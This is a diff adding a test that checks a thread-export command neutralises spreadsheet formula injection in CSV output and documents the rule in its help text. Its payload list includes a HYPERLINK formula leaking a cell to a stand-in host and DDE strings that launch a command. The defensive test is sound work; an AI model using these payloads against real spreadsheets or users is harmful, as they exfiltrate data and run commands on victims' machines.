@@ -329,3 +329,37 @@ def test_timestamps_are_utc_iso(threads):
     data = json.loads(run("export_threads", "--thread", str(threads["fresh"].pk)))
     created = datetime.fromisoformat(data[0]["messages"][0]["created_at"])
     assert created.tzinfo == UTC
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_export_csv_defuses_formulas_and_says_so(tmp_path, capsys):
+    thread = services.create_thread("=1+2")
+    for text in FORMULAS:
+        post(thread, text)
+    post(thread, "safe = text, 2+2 and a@b")
+    target = tmp_path / "export.csv"
+    call_command("export_threads", "--format", "csv", "--output", str(target), stderr=io.StringIO())
+    with open(target, newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["message_content_text"] for r in rows] == ["'" + text for text in FORMULAS] + [
+        "safe = text, 2+2 and a@b"
+    ]
+    assert {r["thread_display_name"] for r in rows} == {"'=1+2"}
+    # Times and ids are not visitors' words: left as they are.
+    assert all(r["thread_created_at"][:2] == "20" and r["message_created_at"][:2] == "20" for r in rows)
+    # JSON carries the words as they are.
+    exported = json.loads(run("export_threads"))
+    assert [m["content_text"] for m in exported[0]["messages"]][:-1] == FORMULAS
+    # The rule is in the command's help.
+    with pytest.raises(SystemExit):
+        call_command("export_threads", "--help")
+    assert "gets a leading single quote (')" in " ".join(capsys.readouterr().out.split())
